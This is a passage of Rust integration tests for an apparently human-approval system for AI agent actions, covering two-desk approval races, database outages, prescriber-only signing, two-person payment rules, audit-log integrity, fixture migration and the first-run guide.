                .unwrap()
                .unwrap()
                .id,
        );
    }
    let mut front_won = 0;
    for (n, id) in ids.iter().enumerate() {
        let (a, b) = tokio::join!(
            front.lifecycle.approve(id, None),
            back.lifecycle.approve(id, None)
        );
        assert!(
            a.is_ok() != b.is_ok(),
            "exactly one decision counts: {a:?} {b:?}"
        );
        assert_eq!(
            count.load(std::sync::atomic::Ordering::SeqCst),
            n + 1,
            "exactly one execution"
        );
        let request = String::from_utf8_lossy(&recorded.lock().unwrap()).to_lowercase();
        let (winner, loser, token) = if a.is_ok() {
            front_won += 1;
            (a, b, "front-desk-token-0001")
        } else {
            (b, a, "back-desk-token-0002")
        };
        assert!(
            request.contains(&format!("authorization: bearer {token}")),
            "the deciding desk's own credential"
        );
        let winner = winner.unwrap();
        assert_eq!(winner.status, countersign_app::Status::Succeeded);
        let loser = loser.unwrap_err().to_string();
        assert!(
            loser.contains("Ana Admin") || loser.contains("Ben Billing"),
            "the other desk is told who decided: {loser}"
        );
        let seen = front.lifecycle.store().existing(id).await.unwrap();
        assert!(seen.decided_by.is_some());
    }
    println!("the front desk won {front_won} of {} races", ids.len());

    // The database refuses everyone: nothing is approved or executed, and nothing is lost.
    let pending = front
        .lifecycle
        .submit("scribe", &balance_proposal(port))
        .await
        .unwrap()
        .unwrap();
    let before = count.load(std::sync::atomic::Ordering::SeqCst);
    let admin = env("COUNTERSIGN_TEST_POSTGRES");
    let mut superuser = sqlx::PgConnection::connect(&admin).await.unwrap();
    let database = admin_db.rsplit('/').next().unwrap().to_owned();
    sqlx::raw_sql(&format!(
        "ALTER DATABASE {database} ALLOW_CONNECTIONS false"
    ))
    .execute(&mut superuser)
    .await
    .unwrap();
    sqlx::query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = $1 AND pid <> pg_backend_pid()")
        .bind(&database)
        .execute(&mut superuser)
        .await
        .unwrap();
    let refused = back.lifecycle.approve(&pending.id, None).await;
    assert!(
        refused.is_err(),
        "nothing is approved without the team's records"
    );
    assert!(!back.lifecycle.store().reachable().await);
    assert_eq!(
        count.load(std::sync::atomic::Ordering::SeqCst),
        before,
        "nothing executed"
    );
    sqlx::raw_sql(&format!("ALTER DATABASE {database} ALLOW_CONNECTIONS true"))
        .execute(&mut superuser)
        .await
        .unwrap();
    let approved = back.lifecycle.approve(&pending.id, None).await.unwrap();
    assert_eq!(approved.status, countersign_app::Status::Succeeded);
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), before + 1);

    // One chain, verified from either desk, naming each person who decided.
    for desk in [&front, &back] {
        assert!(desk.audit.verify(None).await.unwrap().intact());
    }
    let log = back
        .audit
        .export(ExportFormat::Json, &Filter::default())
        .await
        .unwrap();
    assert!(log.contains("Ben Billing"));
    assert_eq!(
        log.matches("\"decision.approved\"").count(),
        ids.len() + 1,
        "one decision a proposal"
    );
    assert!(!log.contains("front-desk-token-0001") && !log.contains("back-desk-token-0002"));
    drop(front.home);
    drop(back.home);
}

fn code_for(enrolment: &countersign_app::team::Enrolment) -> String {
    totp_now(enrolment.secret.expose())
}

/// An HTTP credential `name` for the local server on `port`, with a prescriber block when given.
async fn add_http_credential(
    home: &DataHome,
    audit: &Audit,
    name: &str,
    port: u16,
    token: &str,
    prescriber: Option<countersign_core::credential::Prescriber>,
) {
    let mut meta = bank(port, false);
    meta.name = name.into();
    meta.prescriber = prescriber;
    countersign_app::Credentials::open(home)
        .await
        .unwrap()
        .add(audit, &meta, &countersign_vault::Secret::new(token.into()))
        .await
        .unwrap();
}

/// The team's rules at two desks (design.md §19, 21 CFR 1311.135(a)): a nurse's agent drafts a
/// controlled-substance prescription, the nurse cannot sign it, the prescriber signs it with his
/// own second factor at the other desk and it executes once; a rule the admin added makes a
/// payment over $500 need two people: the first approval runs nothing, the same person cannot be
/// the second, a second person's approval executes it once; a role rule keeps a credential to
/// its role. Every decision is in the team's chain under the person who made it.
#[tokio::test]
async fn team_rules_decide_who_signs_and_who_pays() {
    use countersign_app::team::{Rule, Team};
    use countersign_app::{Desk, DeskOptions};
    let (address, password, _) = fresh_database("rules").await;
    let (front_dir, front_home) = home();
    let (back_dir, back_home) = home();
    let ana = Team::init(&front_home, &address, &password, "Ana Admin")
        .await
        .unwrap();
    Team::join(&back_home, &address, &password).await.unwrap();
    let (fhir_port, fhir_count, _) =
        recording_server(r#"{"resourceType":"MedicationRequest","id":"mr-1","status":"active"}"#);
    let (bank_port, bank_count, _) = recording_server(r#"{"id":"pay_1","status":"completed"}"#);
    let khan_block = countersign_core::credential::Prescriber {
        name: "Dr Khan".into(),
        address: "1 Main St, Springfield".into(),
        dea_number: "AB1234563".into(),
    };

    // The admin adds a nurse and a prescriber (confirmed by the registrant) and the rules.
    let (nora, khan) = {
        let audit = std::sync::Arc::new(
            Audit::open(&front_home, Actor::person("Ana Admin"))
                .await
                .unwrap(),
        );
        let team = Team::open(&front_home, std::sync::Arc::clone(&audit))
            .unwrap()
            .unwrap();
        let admin = team.sign_in("Ana Admin", &code_for(&ana)).await.unwrap();
        let nora = team
            .add_person(&admin, "Nora Nurse", &["nurse".into()], None, None)
            .await
            .unwrap();
        let khan = team
            .add_person(
                &admin,
                "Dr Khan",
                &["prescriber".into()],
                Some("AB1234563"),
                Some("1 Main St, Springfield"),
            )
            .await
            .unwrap();
        let registrant = team.sign_in("Dr Khan", &code_for(&khan)).await.unwrap();
        team.confirm_role(&registrant, "Dr Khan", "prescriber")
            .await
            .unwrap();
        let by_nurse = team.sign_in("Nora Nurse", &code_for(&nora)).await.unwrap();
        assert!(
            team.add_rule(
                &by_nurse,
                &Rule::Decide {
                    credential: "bank".into(),
                    role: "billing".into()
                }
            )
            .await
            .is_err(),
            "only an admin changes the rules"
        );
        team.add_rule(
            &admin,
            &Rule::TwoPeople {
                amount: "500".into(),
                currency: "USD".into(),
                credential: None,
            },
        )
        .await
        .unwrap();
        assert!(
            team.add_rule(
                &admin,
                &Rule::TwoPeople {
                    amount: "lots".into(),
                    currency: "USD".into(),
                    credential: None
                }
            )
            .await
            .is_err()
        );
        add_http_credential(
            &front_home,
            &audit,
            "clinic-fhir",
            fhir_port,
            "front-fhir-token",
            None,
        )
        .await;
        add_http_credential(
            &front_home,
            &audit,
            "bank",
            bank_port,
            "front-bank-token",
            None,
        )
        .await;
        (nora, khan)
    };
    {
        let audit = Audit::open(&back_home, Actor::person("Dr Khan"))
            .await
            .unwrap();
        add_http_credential(
            &back_home,
            &audit,
            "clinic-fhir",
            fhir_port,
            "back-fhir-token",
            Some(khan_block.clone()),
        )
        .await;
        add_http_credential(
            &back_home,
            &audit,
            "bank",
            bank_port,
            "back-bank-token",
            None,
        )
        .await;
    }

    let open_desk = |home: DataHome, person: countersign_app::team::SignedIn| async move {
        Desk::open(
            home,
            Actor::person("unused"),
            DeskOptions {
                auto_lock: false,
                signed_in: Some(person),
                ..DeskOptions::default()
            },
        )
        .await
        .unwrap()
        .0
    };
    let sign_in = |home: DataHome,
                   name: &'static str,
                   enrolment: &countersign_app::team::Enrolment| {
        let code = code_for(enrolment);
        async move {
            let audit = std::sync::Arc::new(Audit::open(&home, Actor::person(name)).await.unwrap());
            Team::open(&home, audit)
                .unwrap()
                .unwrap()
                .sign_in(name, &code)
                .await
                .unwrap()
        }
    };
    let front = open_desk(
        front_home.clone(),
        sign_in(front_home.clone(), "Nora Nurse", &nora).await,
    )
    .await;
    let back = open_desk(
        back_home.clone(),
        sign_in(back_home.clone(), "Dr Khan", &khan).await,
    )
    .await;

    // The nurse's agent drafts a controlled-substance prescription.
    front.lifecycle().agents().add("scribe").await.unwrap();
    let prescription = format!(
        r#"{{"summary":"Prescribe pain relief after surgery","purpose":"post-op","artifact":{{"kind":"http","credential":"clinic-fhir","method":"POST","url":"http://127.0.0.1:{fhir_port}/r4/MedicationRequest","headers":{{"Content-Type":"application/json"}},"body":{{"resourceType":"MedicationRequest","status":"draft","intent":"order","medicationCodeableConcept":{{"coding":[{{"system":"http://www.nlm.nih.gov/research/umls/rxnorm","code":"1049621","display":"Oxycodone Hydrochloride 5 MG Oral Tablet"}}]}},"subject":{{"reference":"Patient/pat-456","display":"Sam Rivera"}},"requester":{{"reference":"Practitioner/dr-7","display":"Dr Khan"}},"dosageInstruction":[{{"text":"1 tablet every 6 hours as needed for pain"}}],"dispenseRequest":{{"quantity":{{"value":12}},"numberOfRepeatsAllowed":0}}}}}}}}"#
    );
    let drafted = front
        .lifecycle()
        .submit("scribe", &prescription)
        .await
        .unwrap()
        .unwrap();
    assert!(
        drafted
            .explanation
            .risks
            .iter()
            .any(|r| r.code == countersign_core::RiskCode::ControlledSubstance)
    );
    let word = countersign_app::confirmation_word(&drafted.artifact_sha256);
    let at_front = front.proposal(&drafted.id).await.unwrap();
    let at_back = back.proposal(&drafted.id).await.unwrap();
    // Each desk explains it as it would run it: the prescriber's desk shows his own signing
    // block, from his desk's credential; the nurse's desk has none to show.
    let dea = |view: &countersign_app::views::ProposalView| {
        view.details.iter().any(|d| d.value.contains("AB1234563"))
    };
    assert!(dea(&at_back), "{:?}", at_back.details);
    assert!(!dea(&at_front), "{:?}", at_front.details);
    tokio::time::sleep(countersign_app::MINIMUM_VIEW + std::time::Duration::from_millis(100)).await;
    let refused = front
        .approve(&drafted.id, Some(&word), Some(&code_for(&nora)))
        .await
        .unwrap_err()
        .to_string();
    assert!(refused.contains("Only a prescriber signs"), "{refused}");
    assert_eq!(fhir_count.load(std::sync::atomic::Ordering::SeqCst), 0);
    // The prescriber's own code signs, not the nurse's.
    assert!(
        back.approve(&drafted.id, Some(&word), Some(&code_for(&nora)))
            .await
            .is_err()
    );
    let signed = back
        .approve(&drafted.id, Some(&word), Some(&code_for(&khan)))
        .await
        .unwrap();
    assert_eq!(
        signed.line.status,
        countersign_app::Status::Succeeded,
        "{signed:?}"
    );
    assert_eq!(
        fhir_count.load(std::sync::atomic::Ordering::SeqCst),
        1,
        "signed and sent once"
    );
    assert!(
        front
            .approve(&drafted.id, Some(&word), Some(&code_for(&nora)))
            .await
            .is_err()
    );
    assert_eq!(fhir_count.load(std::sync::atomic::Ordering::SeqCst), 1);

    // A payment over $500 needs two people.
    let payment = format!(
        r#"{{"summary":"Pay the lab","purpose":"invoice 7","artifact":{{"kind":"http","credential":"bank","method":"POST","url":"http://127.0.0.1:{bank_port}/v2/payments","headers":{{"Content-Type":"application/json"}},"body":{{"payee":"Acme Lab","amount":{{"currency_code":"USD","value":"750.00"}}}}}}}}"#
    );
    let bill = front
        .lifecycle()
        .submit("scribe", &payment)
        .await
        .unwrap()
        .unwrap();
    assert!(
        !bill.amounts.is_empty(),
        "the payment's amount is read from the artifact"
    );
    let word = countersign_app::confirmation_word(&bill.artifact_sha256);
    front.proposal(&bill.id).await.unwrap();
    back.proposal(&bill.id).await.unwrap();
    tokio::time::sleep(countersign_app::MINIMUM_VIEW + std::time::Duration::from_millis(100)).await;
    let first = front
        .approve(&bill.id, Some(&word), Some(&code_for(&nora)))
        .await
        .unwrap();
    assert_eq!(
        first.line.status,
        countersign_app::Status::Pending,
        "the first approval runs nothing"
    );
    assert_eq!(bank_count.load(std::sync::atomic::Ordering::SeqCst), 0);
    let again = front
        .approve(&bill.id, Some(&word), Some(&code_for(&nora)))
        .await
        .unwrap_err()
        .to_string();
    assert!(again.contains("second person"), "{again}");
    assert_eq!(bank_count.load(std::sync::atomic::Ordering::SeqCst), 0);
    let paid = back
        .approve(&bill.id, Some(&word), Some(&code_for(&khan)))
        .await
        .unwrap();
    assert_eq!(paid.line.status, countersign_app::Status::Succeeded);
    assert_eq!(
        bank_count.load(std::sync::atomic::Ordering::SeqCst),
        1,
        "paid once"
    );

    let log = back
        .audit()
        .export(ExportFormat::Json, &Filter::default())
        .await
        .unwrap();
    for expected in [
        "\"rule.added\"",
        "\"decision.first_approved\"",
        "second_to",
        "Dr Khan",
        "Nora Nurse",
    ] {
        assert!(log.contains(expected), "no {expected} in the team's log");
    }
    assert!(back.audit().verify(None).await.unwrap().intact());
    for token in [
        "front-fhir-token",
        "back-fhir-token",
        "front-bank-token",
        "back-bank-token",
    ] {
        assert!(!log.contains(token));
    }
    drop((front, back, front_dir, back_dir));
}

/// A local HTTP server that answers only once the test lets it (dropping the sender), counting
/// requests.
fn held_server() -> (
    u16,
    std::sync::Arc<std::sync::atomic::AtomicUsize>,
    std::sync::mpsc::Sender<()>,
) {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = std::sync::Arc::clone(&count);
    let (release, held) = std::sync::mpsc::channel::<()>();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut buffer = [0u8; 8192];
            let _ = stream.read(&mut buffer);
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            // Waits until the test drops the sender (or sends).
            let _ = held.recv();
            let body = r#"{"balance":1200}"#;
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, count, release)
}

/// A team desk loses the database while an execution runs (design.md §19): the request was sent,
/// but its end cannot be recorded, so the approval reports a failure; once the database answers
/// again the proposal is `outcome_unknown`, with its entry, and nothing is sent again.
#[tokio::test]
async fn an_execution_cut_off_by_a_lost_connection_is_outcome_unknown() {
    let (address, password, admin_db) = fresh_database("cutoff").await;
    let (dir, home_dir) = home();
    countersign_app::team::Team::init(&home_dir, &address, &password, "Ana Admin")
        .await
        .unwrap();
    let (port, count, release) = held_server();
    let desk = team_desk(home_dir, dir, "Ana Admin", port, "cutoff-token-0001").await;
    desk.lifecycle.agents().add("scribe").await.unwrap();
    let record = desk
        .lifecycle
        .submit("scribe", &balance_proposal(port))
        .await
        .unwrap()
        .unwrap();
    let database = admin_db.rsplit('/').next().unwrap().to_owned();
    let admin = env("COUNTERSIGN_TEST_POSTGRES");
    let approve = desk.lifecycle.approve(&record.id, None);
    let cut = async {
        while count.load(std::sync::atomic::Ordering::SeqCst) == 0 {
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
        let mut superuser = sqlx::PgConnection::connect(&admin).await.unwrap();
        sqlx::raw_sql(&format!(
            "ALTER DATABASE {database} ALLOW_CONNECTIONS false"
        ))
        .execute(&mut superuser)
        .await
        .unwrap();
        sqlx::query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = $1 AND pid <> pg_backend_pid()")
            .bind(&database)
            .execute(&mut superuser)
            .await
            .unwrap();
        drop(release);
        superuser
    };
    let (approved, mut superuser) = tokio::join!(approve, cut);
    assert!(
        approved.is_err(),
        "its end could not be recorded: {approved:?}"
    );
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
    assert!(
        desk.lifecycle.recover_cut_off().await.is_err(),
        "nothing is decided while the database is away"
    );
    sqlx::raw_sql(&format!("ALTER DATABASE {database} ALLOW_CONNECTIONS true"))
        .execute(&mut superuser)
        .await
        .unwrap();
    assert_eq!(
        desk.lifecycle.recover_cut_off().await.unwrap(),
        vec![record.id.clone()]
    );
    let now = desk.lifecycle.store().existing(&record.id).await.unwrap();
    assert_eq!(now.status, countersign_app::Status::OutcomeUnknown);
    assert!(
        desk.lifecycle.recover_cut_off().await.unwrap().is_empty(),
        "marked once"
    );
    assert_eq!(
        count.load(std::sync::atomic::Ordering::SeqCst),
        1,
        "never retried"
    );
    let log = desk
        .audit
        .export(
            ExportFormat::Json,
            &Filter {
                proposal: Some(record.id.clone()),
                ..Filter::default()
            },
        )
        .await
        .unwrap();
    assert!(log.contains("execution.outcome_unknown"), "{log}");
    assert!(desk.audit.verify(None).await.unwrap().intact());
}

/// Where the data home made by this release is kept for the upgrade test.
fn release_fixture() -> std::path::PathBuf {
    std::path::PathBuf::from(
        std::env::var_os("CARGO_MANIFEST_DIR").unwrap_or_else(|| env!("CARGO_MANIFEST_DIR").into()),
    )
    .join("tests/fixtures/home-0.1")
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// Makes the release fixture (run with `UPDATE_FIXTURE=1` when a release is cut, never by the
/// test command): a credential, an agent (its key kept beside the fixture, for the test only), a
/// pending and a rejected proposal, a money threshold, and their audit entries.
async fn make_release_fixture(root: &std::path::Path) {
    let _ = std::fs::remove_dir_all(root);
    let home = DataHome::at(root.to_path_buf());
    let audit = std::sync::Arc::new(Audit::open(&home, Actor::person("alice")).await.unwrap());
    countersign_app::Credentials::open(&home)
        .await
        .unwrap()
        .add(
            &audit,
            &countersign_core::credential::CredentialMeta {
                name: "bank".into(),
                description: "Everyday bank account".into(),
                kind: countersign_core::credential::CredentialKind::Http {
                    auth: countersign_core::credential::HttpAuth::Bearer,
                    scope: countersign_core::credential::HttpScope {
                        origins: vec!["https://api.bank.example".into()],
                        methods: vec![],
                        path_prefixes: vec!["/v1".into()],
                    },
                },
                requires_second_factor: false,
                prescriber: None,
            },
            &countersign_vault::Secret::new("fixture-token-not-real".into()),
        )
        .await
        .unwrap();
    let settings = countersign_app::Settings {
        threshold: Some(countersign_app::MoneyThreshold {
            amount: "500".into(),
            currency: "USD".into(),
        }),
        ..countersign_app::Settings::default()
    };
    settings.save(&home, &audit).await.unwrap();
    let lifecycle = countersign_app::Lifecycle::open_standard(&home, std::sync::Arc::clone(&audit))
        .await
        .unwrap();
    let key = lifecycle.agents().add("claude").await.unwrap();
    std::fs::write(root.join("agent-key.txt"), key.expose()).unwrap();
    let balance = r#"{"summary":"Check the balance","purpose":"budget","artifact":{"kind":"http","credential":"bank","method":"GET","url":"https://api.bank.example/v1/balance"}}"#;
    lifecycle.submit("claude", balance).await.unwrap().unwrap();
    let pay = r#"{"summary":"Pay Acme","purpose":"invoice 12","artifact":{"kind":"http","credential":"bank","method":"POST","url":"https://api.bank.example/v1/payments","headers":{"Content-Type":"application/json"},"body":{"amount":{"currency_code":"USD","value":"42.00"},"payee":"Acme"}}}"#;
    let paid = lifecycle.submit("claude", pay).await.unwrap().unwrap();
    lifecycle.reject(&paid.id, "not this month").await.unwrap();
    drop(lifecycle);
    drop(audit);
    // The keychain entries of the fixture's path are of no use elsewhere.
    let keychain = home.keychain();
    for name in countersign_app::AUDIT_KEYCHAIN_ENTRIES
        .iter()
        .chain(["bank"].iter())
    {
        let _ = keychain.remove(name);
    }
}

/// A data home made by this release opens with this build (design: every store migrates): its
/// audit log verifies and its chain continues, its proposals, agent, credential and settings are
/// there, and the agent's key still works.
#[tokio::test]
async fn a_data_home_made_by_this_release_opens_and_continues() {
    let fixture = release_fixture();
    if std::env::var_os("UPDATE_FIXTURE").is_some() {
        make_release_fixture(&fixture).await;
    }
    assert!(
        fixture.join("audit.db").exists(),
        "the release fixture {} is missing: make it with UPDATE_FIXTURE=1",
        fixture.display()
    );
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("home");
    copy_dir(&fixture, &root);
    let home = DataHome::at(root.clone());
    let audit = std::sync::Arc::new(Audit::open(&home, Actor::person("alice")).await.unwrap());
    let before = audit.verify(None).await.unwrap();
    assert!(before.intact(), "{before:?}");
    let lifecycle = countersign_app::Lifecycle::open_standard(&home, std::sync::Arc::clone(&audit))
        .await
        .unwrap();
    assert_eq!(lifecycle.store().pending().await.unwrap().len(), 1);
    let rejected = lifecycle
        .store()
        .with_status(countersign_app::Status::Rejected)
        .await
        .unwrap();
    assert_eq!(rejected.len(), 1);
    assert_eq!(rejected[0].reason.as_deref(), Some("not this month"));
    let agents = lifecycle.agents().list().await.unwrap();
    assert_eq!(agents[0].name, "claude");
    // Added by a later migration: an agent of the old release has not checked in yet.
    assert_eq!(agents[0].checked_in_at, None);
    let credentials = countersign_app::Credentials::open(&home)
        .await
        .unwrap()
        .list()
        .await
        .unwrap();
    assert_eq!(credentials.len(), 1);
    assert_eq!(
        countersign_app::Settings::load(&home)
            .unwrap()
            .threshold
            .unwrap()
            .amount,
        "500"
    );
    let key = std::fs::read_to_string(root.join("agent-key.txt")).unwrap();
    assert_eq!(
        lifecycle
            .agents()
            .authenticate(key.trim())
            .await
            .unwrap()
            .as_deref(),
        Some("claude")
    );
    lifecycle
        .submit("claude", r#"{"summary":"Check the balance again","purpose":"budget","artifact":{"kind":"http","credential":"bank","method":"GET","url":"https://api.bank.example/v1/balance"}}"#)
        .await
        .unwrap()
        .unwrap();
    let after = audit.verify(None).await.unwrap();
    assert!(after.intact());
    assert!(after.entries > before.entries, "the chain continues");
}

/// The first-run guide opens on a newcomer's own desk only: until a credential exists or the
/// guide was finished or skipped, and never for the demo. A SQLite file is added without a
/// secret; an agent's first `list_capabilities` is what turns the guide's check green.
#[tokio::test]
async fn the_first_run_guide_opens_until_it_is_done_and_sees_the_assistant_check_in() {
    use countersign_app::views::CredentialForm;
    use countersign_app::{AgentSide, Desk, DeskOptions};

    let (dir, home) = home();
    let (desk, _) = Desk::open(home.clone(), Actor::person("alice"), DeskOptions::default())
        .await
        .unwrap();
    let view = desk.first_run().await.unwrap();
    assert!(view.opens && !view.second_factor_enrolled);
    assert!(view.credentials.is_empty() && view.agents.is_empty());
    let keys: Vec<&str> = view.templates.iter().map(|t| t.key.as_str()).collect();
    for wanted in [
        "stripe",
        "fhir",
        "gmail",
        "microsoft-365",
        "clinic-database",
        "sqlite-file",
    ] {
        assert!(keys.contains(&wanted), "{wanted} in {keys:?}");
    }

    // The assistant connects; its first list_capabilities is noted, once.
    let connected = desk.connect_agent("claude-desktop").await.unwrap();
    assert_eq!(
        desk.first_run().await.unwrap().agents[0].checked_in_at,
        None
    );
    let agents = AgentSide::new(std::sync::Arc::clone(desk.lifecycle()), 50);
    let name = agents.authenticate(&connected.key).await.unwrap().unwrap();
    agents.capabilities(&name).await.unwrap();
    let first = desk.first_run().await.unwrap().agents[0]
        .checked_in_at
        .clone()
        .expect("checked in");
    agents.capabilities(&name).await.unwrap();
    assert_eq!(
        desk.first_run().await.unwrap().agents[0].checked_in_at,
        Some(first)
    );

    // The SQLite template, filled in with where the file is: added with no secret at all.
    let file = dir.path().join("shop.db");
    let mut form: CredentialForm = view
        .templates
        .iter()
        .find(|t| t.key == "sqlite-file")
        .unwrap()
        .form
        .clone();
    form.url = format!("sqlite://{}", file.display());
    assert_eq!(desk.secret_wanted(&form).unwrap(), None);
    desk.add_credential(&form, &countersign_vault::Secret::new(String::new()))
        .await
        .unwrap();
    let view = desk.first_run().await.unwrap();
    assert_eq!(view.credentials, vec!["local-db".to_owned()]);
    assert!(!view.opens, "a desk with a credential opens on its inbox");

    // Skipped on another empty desk: it stays closed, and the marker says it was skipped.
    drop(desk);
    let (_other_dir, other) = self::home();
    let (desk, _) = Desk::open(
        other.clone(),
        Actor::person("alice"),
        DeskOptions::default(),
    )
    .await
    .unwrap();
    assert!(desk.first_run().await.unwrap().opens);
    desk.finish_first_run(true).unwrap();
    assert!(!desk.first_run().await.unwrap().opens);
    let marker =
        std::fs::read_to_string(other.root().join(countersign_app::FIRST_RUN_FILE)).unwrap();
    assert!(marker.contains("\"skipped\":true"), "{marker}");
    drop(desk);

    // The demo's desk never shows it.
    let (_demo_dir, demo_home) = self::home();
    let options = DeskOptions {
        demo: true,
        ..DeskOptions::default()
    };
    let (desk, _) = Desk::open(demo_home, Actor::person("alice"), options)
        .await
        .unwrap();
    assert!(!desk.first_run().await.unwrap().opens);
}
